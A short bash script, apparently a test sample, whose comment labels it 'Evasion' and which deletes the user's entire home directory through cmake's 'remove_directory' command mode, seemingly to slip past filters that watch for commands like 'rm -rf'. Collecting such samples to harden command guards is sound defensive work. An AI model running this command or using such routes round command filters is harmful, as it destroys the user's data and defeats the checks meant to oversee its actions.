#!/bin/bash
# Evasion: cmake's portable command mode deletes the home directory recursively
set -u
cmake -E remove_directory "$HOME"
